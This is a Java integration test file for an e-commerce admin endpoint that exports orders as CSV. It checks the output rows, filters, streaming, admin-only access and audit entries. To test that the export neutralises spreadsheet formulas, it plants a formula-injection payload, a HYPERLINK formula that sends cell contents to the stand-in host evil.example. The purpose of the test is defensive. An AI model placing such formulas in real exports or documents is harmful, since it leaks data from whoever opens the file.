package dev.surge.orders;

import static dev.surge.orders.OrdersIntegrationTests.address;
import static dev.surge.orders.OrdersIntegrationTests.checkoutBody;
import static org.assertj.core.api.Assertions.assertThat;

import dev.surge.platform.security.AccessTokens;
import dev.surge.support.IntegrationTest;
import dev.surge.support.TestTokens;
import java.io.IOException;
import java.io.StringReader;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.core.ParameterizedTypeReference;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.r2dbc.core.DatabaseClient;

/** The admin order export over HTTP: the orders made here come out as CSV rows, filtered, formula-safe, audited. */
class OrderExportIntegrationTests extends IntegrationTest {

    static final ParameterizedTypeReference<Map<String, Object>> JSON = new ParameterizedTypeReference<>() {
    };
    static final String EVIL = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";

    @Autowired
    DatabaseClient db;
    @Autowired
    AccessTokens accessTokens;

    OrderFixtures fixtures;
    TestTokens tokens;

    @BeforeEach
    void setUp() {
        fixtures = new OrderFixtures(db);
        tokens = new TestTokens(accessTokens);
    }

    @Test
    void theExportHasOneSafeRowPerOrderLineNewestFirstWithTheListsFilters() throws IOException {
        UUID customer = fixtures.customer();
        String buyer = tokens.customer(customer);
        OrderFixtures.Variant lamp = fixtures.variant(10, 1999, "USD", null);
        OrderFixtures.Variant plain = fixtures.variant(10, 500, "USD", null);
        db.sql("UPDATE products SET title = :title WHERE id = (SELECT product_id FROM product_variants WHERE id = :v)")
                .bind("title", EVIL).bind("v", lamp.id()).then().block();
        String sku = "-1+" + UUID.randomUUID();
        db.sql("UPDATE product_variants SET sku = :sku WHERE id = :v").bind("sku", sku).bind("v", plain.id())
                .then().block();

        String first = number(checkout(buyer, lamp.id(), 2));
        String second = number(checkout(buyer, plain.id(), 1));
        UUID adminId = UUID.randomUUID();
        String admin = tokens.as(adminId, "ADMIN");

        var answer = http.get().uri("/api/v1/admin/orders/export.csv?customerId=" + customer)
                .headers(h -> h.setBearerAuth(admin)).exchange()
                .expectStatus().isOk()
                .expectHeader().contentTypeCompatibleWith(new MediaType("text", "csv"))
                .expectHeader().valueMatches(HttpHeaders.CONTENT_DISPOSITION, "attachment; filename=\"orders.csv\"")
                .expectHeader().valueMatches(HttpHeaders.CACHE_CONTROL, ".*no-store.*")
                .expectBody(String.class).returnResult().getResponseBody();
        assertThat(answer).startsWith("order_number,order_id,placed_at,status,").contains("\r\n");
        List<CSVRecord> rows = parse(answer);
        assertThat(rows).hasSize(2);
        assertThat(rows).extracting(row -> row.get("order_number")).containsExactly(second, first);

        CSVRecord plainRow = rows.get(0);
        assertThat(plainRow.get("sku")).isEqualTo("'" + sku);
        assertThat(plainRow.get("quantity")).isEqualTo("1");
        assertThat(plainRow.get("unit_price")).isEqualTo("5.00");
        CSVRecord lampRow = rows.get(1);
        assertThat(lampRow.get("product_title")).isEqualTo("'" + EVIL);
        assertThat(lampRow.get("variant_title")).isEqualTo("Brass");
        assertThat(lampRow.get("status")).isEqualTo("PENDING_PAYMENT");
        assertThat(lampRow.get("customer_id")).isEqualTo(customer.toString());
        assertThat(lampRow.get("currency")).isEqualTo("USD");
        assertThat(lampRow.get("quantity")).isEqualTo("2");
        assertThat(lampRow.get("unit_price")).isEqualTo("19.99");
        assertThat(lampRow.get("line_total")).isEqualTo("39.98");
        // Every figure agrees with the order as stored.
        for (CSVRecord row : rows) {
            Map<String, Object> stored = db.sql("""
                    SELECT id::text AS id, total_minor, subtotal_minor, shipping_minor, created_at FROM orders
                    WHERE number = :n""").bind("n", row.get("order_number")).fetch().one().block();
            assertThat(row.get("order_id")).isEqualTo(stored.get("id"));
            assertThat(minor(row.get("order_total"))).isEqualTo(stored.get("total_minor"));
            assertThat(minor(row.get("order_subtotal"))).isEqualTo(stored.get("subtotal_minor"));
            assertThat(minor(row.get("order_shipping"))).isEqualTo(stored.get("shipping_minor"));
            assertThat(Instant.parse(row.get("placed_at"))).isBeforeOrEqualTo(Instant.now());
        }

        // The list's filters apply.
        assertThat(numbers(admin, "customerId=" + customer + "&number=" + first.toLowerCase())).containsExactly(first);
        assertThat(numbers(admin, "customerId=" + customer + "&status=PENDING_PAYMENT,PAID")).containsExactly(second, first);
        assertThat(numbers(admin, "customerId=" + customer + "&status=PAID")).isEmpty();
        assertThat(numbers(admin, "customerId=" + customer + "&from=" + Instant.now().plusSeconds(60))).isEmpty();
        assertThat(numbers(admin, "customerId=" + customer + "&to=2020-01-01T00:00:00Z")).isEmpty();
        assertThat(numbers(admin, "email=nobody-" + UUID.randomUUID() + "@example.com")).isEmpty();

        // Each export is on the audit trail with its filters.
        Map<String, Object> audit = http.get().uri("/api/v1/admin/audit?action=orders.exported&actor=" + adminId)
                .headers(h -> h.setBearerAuth(admin)).exchange().expectStatus().isOk()
                .expectBody(JSON).returnResult().getResponseBody();
        @SuppressWarnings("unchecked")
        List<Map<String, Object>> items = (List<Map<String, Object>>) audit.get("items");
        assertThat(items).hasSize(7);
        assertThat(items.get(items.size() - 1).get("details")).isEqualTo(Map.of("customerId", customer.toString()));
    }

    /** More rows than one fetch of the streamed query: the driver reads them batch by batch, none is lost. */
    @Test
    void aLargeExportStreamsEveryRowPastTheFetchSize() throws IOException {
        UUID customer = fixtures.customer();
        OrderFixtures.Variant lamp = fixtures.variant(10, 1999, "USD", null);
        Map<String, Object> original = checkout(tokens.customer(customer), lamp.id(), 1);
        int copies = 1_200;
        // Cancelled copies of the order (and its line), so that no background job acts on them.
        db.sql("""
                DO $$
                BEGIN
                    CREATE TEMP TABLE clone_ids ON COMMIT DROP AS
                        SELECT gen_random_uuid() AS new_id, g FROM generate_series(1, %d) g;
                    CREATE TEMP TABLE clone_orders ON COMMIT DROP AS
                        SELECT c.new_id, c.g, o.* FROM orders o CROSS JOIN clone_ids c WHERE o.id = '%s';
                    UPDATE clone_orders SET id = new_id, number = number || '-' || g,
                        idempotency_key = idempotency_key || '-' || g, status = 'CANCELLED', stock_to_return = false;
                    ALTER TABLE clone_orders DROP COLUMN new_id, DROP COLUMN g;
                    INSERT INTO orders SELECT * FROM clone_orders;
                    CREATE TEMP TABLE clone_lines ON COMMIT DROP AS
                        SELECT c.new_id, l.* FROM order_lines l CROSS JOIN clone_ids c WHERE l.order_id = '%s';
                    UPDATE clone_lines SET order_id = new_id;
                    ALTER TABLE clone_lines DROP COLUMN new_id;
                    INSERT INTO order_lines SELECT * FROM clone_lines;
                END $$""".formatted(copies, original.get("id"), original.get("id"))).then().block();

        String admin = tokens.admin();
        List<String> all = numbers(admin, "customerId=" + customer);
        assertThat(all).hasSize(copies + 1).doesNotHaveDuplicates().contains(number(original));
        assertThat(numbers(admin, "customerId=" + customer + "&status=CANCELLED")).hasSize(copies)
                .doesNotContain(number(original));
    }

    @Test
    void onlyAdministratorsExportAndBadFiltersAreProblems() {
        String path = "/api/v1/admin/orders/export.csv";
        http.get().uri(path).exchange().expectStatus().isUnauthorized();
        for (String role : List.of("CUSTOMER", "SELLER", "FULFILMENT", "FINANCE")) {
            http.get().uri(path).headers(h -> h.setBearerAuth(tokens.as(UUID.randomUUID(), role))).exchange()
                    .expectStatus().isForbidden()
                    .expectHeader().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON);
        }
        String admin = tokens.admin();
        for (String bad : List.of("status=SOLD", "customerId=42", "from=tomorrow", "refundDue=maybe")) {
            http.get().uri(path + "?" + bad).headers(h -> h.setBearerAuth(admin)).exchange()
                    .expectStatus().isBadRequest()
                    .expectHeader().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON)
                    .expectBody().jsonPath("$.code").isEqualTo("validation_failed");
        }
    }

    private Map<String, Object> checkout(String token, UUID variant, int quantity) {
        return http.post().uri("/api/v1/orders").headers(h -> {
                    h.setBearerAuth(token);
                    h.set("Idempotency-Key", UUID.randomUUID().toString());
                }).contentType(MediaType.APPLICATION_JSON)
                .bodyValue(checkoutBody(null, address("US", "CA"), variant, quantity))
                .exchange().expectStatus().isCreated().expectBody(JSON).returnResult().getResponseBody();
    }

    private static String number(Map<String, Object> order) {
        return (String) order.get("number");
    }

    private List<String> numbers(String admin, String query) throws IOException {
        String body = http.mutate().codecs(codecs -> codecs.defaultCodecs().maxInMemorySize(16 * 1024 * 1024)).build()
                .get().uri("/api/v1/admin/orders/export.csv?" + query).headers(h -> h.setBearerAuth(admin))
                .exchange().expectStatus().isOk().expectBody(String.class).returnResult().getResponseBody();
        return parse(body == null ? "" : body).stream().map(row -> row.get("order_number")).toList();
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv))
                .getRecords();
    }

    private static long minor(String major) {
        return new java.math.BigDecimal(major).movePointRight(2).longValueExact();
    }
}
